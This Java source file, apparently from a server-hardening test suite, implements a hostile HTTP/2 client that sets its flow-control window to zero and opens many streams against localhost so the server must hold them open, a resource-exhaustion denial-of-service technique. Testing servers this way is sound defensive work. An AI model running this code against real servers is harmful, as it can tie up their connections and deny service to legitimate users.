package dev.gatehouse.hostile;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.ChannelHandlerContext;
import io.netty.handler.codec.http2.DefaultHttp2HeadersDecoder;
import io.netty.handler.codec.http2.Http2Exception;
import java.util.List;

/** HTTP/2 connection whose flow-control window is 0, so that the node can send only heads. */
final class ZeroWindow extends Attacker {
  /** Length of a frame's head. */
  private static final int HEAD = 9;

  private static final int FLAG = 4;
  private static final int STREAM = 5;
  private static final int ACK = 1;
  private static final int WHOLE_REQUEST = 5;
  private static final int PRIORITY = 0x20;
  private static final int PRIORITY_BYTES = 5;
  private static final int HEADERS = 1;
  private static final int RST_STREAM = 3;
  private static final int SETTINGS = 4;
  private static final int PING = 6;
  private static final int INITIAL_WINDOW_SIZE = 4;

  /** Indexes of the static table of HPACK. */
  private static final int METHOD_GET = 0x82;

  private static final int SCHEME_HTTPS = 0x87;
  private static final int AUTHORITY = 1;
  private static final int PATH = 4;

  private final List<String> paths;
  private final DefaultHttp2HeadersDecoder decoder = new DefaultHttp2HeadersDecoder(false);
  private int open;

  /**
   * @param paths requested paths, one stream each
   */
  ZeroWindow(List<String> paths) {
    this.paths = paths;
  }

  @Override
  void connected() {
    ByteBuf bytes = Unpooled.buffer();
    bytes.writeCharSequence("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", ISO_8859_1);
    frame(bytes, SETTINGS, 0, 0, settings());
    int stream = 1;
    for (String path : paths) {
      frame(bytes, HEADERS, WHOLE_REQUEST, stream, head(path));
      stream += 2;
      open++;
    }
    send(bytes);
    readAll();
  }

  @Override
  int held() {
    return open;
  }

  private static ByteBuf settings() {
    return Unpooled.buffer().writeShort(INITIAL_WINDOW_SIZE).writeInt(0);
  }

  private static ByteBuf head(String path) {
    ByteBuf head = Unpooled.buffer().writeByte(METHOD_GET).writeByte(SCHEME_HTTPS);
    literal(head, AUTHORITY, "localhost");
    literal(head, PATH, path);
    return head;
  }

  private static void literal(ByteBuf head, int name, String value) {
    head.writeByte(name).writeByte(value.length()).writeCharSequence(value, ISO_8859_1);
  }

  private static void frame(ByteBuf out, int type, int flags, int stream, ByteBuf payload) {
    out.writeMedium(payload.readableBytes()).writeByte(type).writeByte(flags).writeInt(stream);
    out.writeBytes(payload);
  }

  /** Receives one frame. */
  @Override
  protected void channelRead0(ChannelHandlerContext context, ByteBuf frame) {
    int flags = frame.getByte(FLAG);
    ByteBuf payload = frame.slice(HEAD, frame.readableBytes() - HEAD);
    switch (frame.getByte(FLAG - 1)) {
      case SETTINGS -> acknowledge(SETTINGS, flags, Unpooled.EMPTY_BUFFER);
      case PING -> acknowledge(PING, flags, payload);
      case HEADERS ->
          status(
              frame.getInt(STREAM),
              payload.skipBytes((flags & PRIORITY) == 0 ? 0 : PRIORITY_BYTES));
      case RST_STREAM -> ended();
      default -> {
        // Other frames need no reply.
      }
    }
  }

  private void acknowledge(int type, int flags, ByteBuf payload) {
    if ((flags & ACK) == 0) {
      ByteBuf out = Unpooled.buffer();
      frame(out, type, ACK, 0, payload);
      send(out);
    }
  }

  /** Even an error holds its stream, because its body waits for the window. */
  private void status(int stream, ByteBuf payload) {
    try {
      count(decoder.decodeHeaders(stream, payload).status().toString());
    } catch (Http2Exception e) {
      leave();
    }
  }

  private void ended() {
    open--;
    if (open == 0) {
      leave();
    }
  }
}
